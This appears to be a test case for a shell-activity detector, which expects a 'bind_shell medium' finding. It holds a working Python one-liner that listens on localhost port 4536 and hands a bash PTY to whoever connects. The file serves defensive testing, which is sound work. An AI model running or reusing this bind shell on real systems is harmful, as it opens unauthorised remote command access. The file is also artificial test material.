# about: python waits, and copies between its caller and a terminal with a shell
# expect: bind_shell medium
# needs: python3
proven_caller 4536
timeout 7 python3 -c 'import os,pty,select,socket
l=socket.socket(); l.setsockopt(1,2,1); l.bind(("127.0.0.1",4536)); l.listen(1); s,_=l.accept()
p,m=pty.fork()
if p==0: os.execv("/bin/bash",["bash","--norc"])
try:
    while True:
        for f in select.select([m,s],[],[])[0]:
            if f is s: os.write(m,s.recv(4096))
            else: s.sendall(os.read(m,4096))
except OSError: pass' || true
answered
